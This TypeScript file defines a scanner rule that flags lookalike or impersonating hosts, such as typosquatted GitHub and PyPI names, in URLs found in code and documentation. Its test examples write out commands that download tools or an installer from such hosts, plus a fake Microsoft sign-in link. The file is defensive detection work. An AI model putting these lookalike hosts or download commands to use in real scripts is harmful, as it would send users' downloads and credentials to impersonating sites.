import { isDownloader, isInstall, isNetworkCall, isSender } from "../../known/commands.ts";
import { isLookalikeHost } from "../../known/lookalike-hosts.ts";
import { matchesIn } from "../../known/matches.ts";
import type { Program } from "../../program.ts";
import type { PassageRule } from "../../rule.ts";

const address =
  /(?:\b[a-z][a-z0-9+.-]{1,12}:\/\/|\bgit@)(?:[^\s/@"'`<>]{1,60}@)?((?:[a-z0-9][a-z0-9-]*\.)+[a-z]{2,24})(?![\w-])/gi;

/** An address that one takes for another's, at a glance. */
export const lookalikeAddress: PassageRule = {
  kind: "passage",
  id: "lookalike-address",
  class: "impersonation",
  severity: "high",
  words: {
    title: "Leads to an address that looks like another's",
    rationale:
      "The host differs from a well-known one by a letter, or begins with it and belongs to somebody else. What is loaded from there or sent there goes to whoever registered it.",
    remedy: "Write the host that is meant. Where it is another one on purpose, take a name that is not mistaken.",
    beyondPattern:
      "Many hosts are near others by chance, belong to the same owner or to the same service in another country. These are known and not reported; words of a dictionary count only where letters are exchanged.",
  },
  examples: {
    matches: [
      "```bash\ncurl -o tool https://githvb.com/sample/tool\n```\n",
      { "load.py": 'import requests\nrequests.get("https://pypi.org.tables.example/simple")\n' },
      { "load.ts": 'await fetch("https://api.notlon.example/v1/search", { method: "POST" });\n' },
      { "load.ps1": "Invoke-WebRequest https://get.adobe-acrobat-update.example/a.msi -OutFile a.msi\n" },
      "Sign in at https://microsoft-login.example/ first.\n",
      "```bash\ngit clone https://g1thub.com/sample/tool\n```\n",
    ],
    ignores: [
      "See https://github-copilot-tips.example/, https://docker-compose.example/ and https://stripe-press.example/.\n",
      "See https://www.google.com.au/, https://spec.openapis.org/ and https://slack-edge.com/a.png.\n",
      "```bash\ncurl -o tool https://github.com/sample/tool\npip install https://motion.dev/x.whl\n```\n",
    ],
  },
  regardless: ["documentation"],
  hint: /:\/\/|git@/i,
  *check({ text, line: firstLine, program }) {
    for (const { groups, line } of matchesIn(text, address, firstLine)) {
      const host = groups[0] ?? "";
      if (isLookalikeHost(host)) yield { line, severity: isUsed(host, program) ? "high" : "medium" };
    }
  },
};

/** Whether a program loads from a host or sends to it. */
const isUsed = (host: string, program: Program | null): boolean =>
  program !== null &&
  (program.commands.some(
    (command) =>
      (isDownloader(command) || isSender(command) || isInstall(command) || command.name === "git") &&
      command.text.includes(host),
  ) ||
    program.calls.some(
      (call) => isNetworkCall(call) && call.args.some(({ strings }) => strings.some((one) => one.includes(host))),
    ));
